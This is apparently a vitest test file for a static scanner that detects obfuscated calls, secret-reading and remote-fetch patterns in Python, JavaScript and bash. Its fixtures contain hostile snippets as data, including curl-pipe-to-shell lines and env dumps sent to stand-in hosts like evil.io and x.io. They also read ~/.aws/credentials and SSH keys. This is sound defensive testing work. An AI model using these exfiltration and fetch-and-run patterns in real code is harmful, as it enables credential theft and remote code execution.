import { describe, expect, it } from 'vitest';
import { analyseCode } from '../../../../src/scan/code/analyse.js';
import type { Call, CodeModel } from '../../../../src/scan/code/model.js';
import { T } from '../../../../src/scan/code/model.js';

async function model(language: string, text: string): Promise<CodeModel> {
  const m = await analyseCode(language, text);
  if (!m) throw new Error('no model');
  return m;
}

function call(m: CodeModel, callee: string): Call {
  const c = m.calls.find((x) => x.callee === callee);
  if (!c) throw new Error(`no call to ${callee}; have ${m.calls.map((x) => x.callee).join(', ')}`);
  return c;
}

describe('python extraction', () => {
  it('reads a name spelt as character codes, by map(chr, …) or a generator', async () => {
    const codes = (w: string) => [...w].map((c) => c.charCodeAt(0)).join(', ');
    const m = await model(
      'python',
      [
        `m = getattr(__import__("".join(map(chr, [${codes('os')}]))), "".join(chr(c) for c in (${codes('system')})))`,
        `m("".join(map(chr, [${codes('id')}])))`,
        // A list that is not all integer literals is not a known word.
        'n = "".join(map(chr, [111, x]))',
      ].join('\n'),
    );
    expect(call(m, 'os.system').args[0]!.str).toBe('id');
    expect(m.calls.some((c) => c.callee === 'os.system' && c.line === 2)).toBe(true);
  });

  it('resolves aliases: imports, assignment, getattr with built strings, __import__', async () => {
    const m = await model(
      'python',
      [
        'from os import environ as E, system as run',
        'import subprocess as sp',
        'p = __import__("o" + "s")',
        's = getattr(p, "sys" + "tem")',
        's("id")',
        'run("whoami")',
        'sp.check_output(["ls"])',
      ].join('\n'),
    );
    expect(m.calls.filter((c) => c.callee === 'os.system').map((c) => c.line)).toEqual([5, 6]);
    expect(call(m, 'subprocess.check_output').line).toBe(7);
  });

  it('reads __import__ of a dotted name as Python does: the top package, unless a fromlist is given', async () => {
    const m = await model(
      'python',
      [
        "__import__('urllib.request').request.urlopen('https://a.example/x', b'd')",
        "__import__('os.path', fromlist=['join']).join('a', 'b')",
      ].join('\n'),
    );
    expect(call(m, 'urllib.request.urlopen').line).toBe(1);
    expect(call(m, 'os.path.join').line).toBe(2);
  });

  it('resolves f-strings, concatenation, join and chr() into constant strings', async () => {
    const m = await model(
      'python',
      [
        'h = "ev" + "il.io"',
        'u = f"https://{h}/x"',
        'c = "".join(["cu", "rl"])',
        'k = chr(105) + chr(100)',
        'f(u, c, k)',
      ].join('\n'),
    );
    expect(call(m, 'f').args.map((a) => a.str)).toEqual(['https://evil.io/x', 'curl', 'id']);
  });

  it('marks unknown parts of a string and keeps the known host', async () => {
    const m = await model('python', 'import requests\nrequests.get(f"https://api.example.com/{user}")');
    expect(call(m, 'requests.get').args[0]!.str).toBe('https://api.example.com/\u2026');
  });

  it('tracks environment taint through aliases, comprehensions and containers', async () => {
    const m = await model(
      'python',
      [
        'import os',
        'e = os.environ',
        'data = {k: v for k, v in e.items()}',
        'payload = []',
        'payload.append(data)',
        'send(payload)',
      ].join('\n'),
    );
    const arg = call(m, 'send').args[0]!;
    expect(arg.taint.has(T.ENV_ALL)).toBe(true);
    expect(arg.taint.lineOf(T.ENV_ALL)).toBe(2);
  });

  it('tells a secret-named variable from an ordinary one', async () => {
    const m = await model('python', 'import os\na(os.environ.get("GITHUB_TOKEN"))\nb(os.getenv("LANG"))');
    expect(call(m, 'a').args[0]!.taint.has(T.ENV_SECRET)).toBe(true);
    expect(call(m, 'b').args[0]!.taint.bits).toBe(0);
  });

  it('marks reads of credential paths, including paths built with expanduser and Path.home()', async () => {
    const m = await model(
      'python',
      [
        'import os',
        'from pathlib import Path',
        'a = open(os.path.expanduser("~/.aws/credentials")).read()',
        'b = (Path.home() / ".ssh" / "id_ed25519").read_text()',
        'use(a, b)',
      ].join('\n'),
    );
    const [a, b] = call(m, 'use').args;
    expect(a!.taint.has(T.CRED_DATA)).toBe(true);
    expect(b!.taint.has(T.CRED_DATA)).toBe(true);
  });

  it('decodes an exec()d base64 literal and analyses the payload', async () => {
    const payload = Buffer.from('import os\nos.system("id")').toString('base64');
    const m = await model('python', `import base64\nexec(base64.b64decode("${payload}"))`);
    const inner = call(m, 'os.system');
    expect(inner.line).toBe(2);
    expect(inner.origin).toMatch(/decoded/);
  });

  it('analyses command strings passed to subprocess as shell', async () => {
    const m = await model(
      'python',
      'import subprocess\nsubprocess.run(["bash", "-c", "curl -s https://x.io/i | sh"])',
    );
    const sh = m.calls.find((c) => c.callee === 'sh' && c.kind === 'command');
    expect(sh?.stdin.has(T.FETCHED)).toBe(true);
    expect(sh?.line).toBe(2);
  });

  it('records bare excepts and infinite loops', async () => {
    const m = await model(
      'python',
      'try:\n    x()\nexcept:\n    pass\nwhile True:\n    poll()\n    if done():\n        break\n',
    );
    expect(m.swallows.map((s) => s.kind)).toEqual(['bare-except']);
    expect(m.loops[0]?.exits).toBe(true);
  });
});

describe('javascript extraction', () => {
  it('resolves require, destructuring, computed globals and template literals', async () => {
    const m = await model(
      'javascript',
      [
        "const cp = require('node:child_process');",
        'const {env} = process;',
        "const host = 'ev' + 'il.io';",
        // biome-ignore lint/suspicious/noTemplateCurlyInString: JS fixture text, not a template
        'fetch(`https://${host}/c`, {method: "POST", body: JSON.stringify(env)});',
        'globalThis["ev" + "al"]("1+1");',
        "cp.execSync('id');",
      ].join('\n'),
    );
    const f = call(m, 'fetch');
    expect(f.args[0]!.str).toBe('https://evil.io/c');
    expect(f.named.get('body')!.taint.has(T.ENV_ALL)).toBe(true);
    expect(call(m, 'eval').line).toBe(5);
    expect(call(m, 'child_process.execSync').line).toBe(6);
  });

  it('resolves ES imports with aliases and String.fromCharCode', async () => {
    const m = await model(
      'typescript',
      "import { exec as run } from 'child_process';\nconst c: string = String.fromCharCode(105, 100);\nrun(c);",
    );
    expect(call(m, 'child_process.exec').args[0]!.str).toBe('id');
  });

  it('marks fetched and decoded content', async () => {
    const m = await model(
      'javascript',
      "eval(await (await fetch('https://x.io/p.js')).text());\neval(atob('aWQ='));",
    );
    const evals = m.calls.filter((c) => c.callee === 'eval');
    expect(evals[0]!.args[0]!.taint.has(T.FETCHED)).toBe(true);
    expect(evals[1]!.args[0]!.taint.has(T.DECODED)).toBe(true);
    expect(evals[1]!.args[0]!.str).toBe('id');
  });
});

describe('shell extraction', () => {
  it('resolves variables, unwraps sudo and links pipeline stages', async () => {
    const m = await model('bash', 'URL="https://x.io/install.sh"\nsudo curl -fsSL "$URL" | sudo bash');
    expect(call(m, 'curl').args.map((a) => a.str)).toContain('https://x.io/install.sh');
    expect(call(m, 'curl').pipedTo).toContain('bash');
    const bash = m.calls.find((c) => c.callee === 'bash')!;
    expect(bash.stdin.has(T.FETCHED)).toBe(true);
  });

  it('resolves a pipeline stage named through a variable, as a command name is', async () => {
    const m = await model(
      'bash',
      "c=$'\\x63\\x75\\x72\\x6c'\nb=$'\\x62\\x61\\x73\\x68'\n$c -s https://x.io/i | $b",
    );
    expect(call(m, 'curl').pipedTo).toEqual(['bash']);
    const bash = m.calls.find((c) => c.callee === 'bash')!;
    expect(bash.stdin.has(T.FETCHED)).toBe(true);
  });

  it('taints command substitutions and process substitutions', async () => {
    const m = await model(
      'bash',
      'D=$(env | base64)\ncurl -d "$D" https://x.io\nsource <(curl -s https://x.io/a)',
    );
    expect(call(m, 'curl').args.some((a) => a.taint.has(T.ENV_ALL))).toBe(true);
    expect(call(m, 'source').args[0]!.taint.has(T.FETCHED)).toBe(true);
  });

  it('resolves a command name assembled from variables', async () => {
    const m = await model('bash', 'a=cu\nb=rl\n$a$b https://x.io');
    expect(m.calls.some((c) => c.callee === 'curl' && c.line === 3)).toBe(true);
  });

  it('notes set -u and background jobs', async () => {
    const m = await model('bash', 'set -euo pipefail\nsleep 10 &\n');
    expect(m.nounset).toBe(true);
    expect(call(m, 'sleep').background).toBe(true);
  });
});

describe('analyseCode', () => {
  it('returns the cached model for the same text and null for unknown languages', async () => {
    const a = analyseCode('python', 'print(1)');
    expect(analyseCode('python', 'print(1)')).toBe(a);
    expect(await analyseCode('cobol', 'x')).toBeNull();
  });

  it('finds code inside base64 blobs that are never executed', async () => {
    const blob = Buffer.from('curl -s https://evil.io/p | sh').toString('base64');
    const m = await model('python', `DATA = "${blob}"\nprint(len(DATA))`);
    const curl = m.calls.find((c) => c.callee === 'curl');
    expect(curl?.origin).toMatch(/decoded from base64 at line 1/);
  });
});

describe('hostOf', () => {
  it('keeps a full host followed by a runtime path and flags names built from data', async () => {
    const { hostOf } = await import('../../../../src/scan/code/network.js');
    expect(hostOf('https://api.github.com\u2026')).toEqual({ host: 'api.github.com', dynamic: false });
    expect(hostOf('dns://\u2026.leak.example.com')).toEqual({ host: 'leak.example.com', dynamic: true });
    expect(hostOf('https://\u2026/x')).toEqual({ host: null, dynamic: true });
  });
});
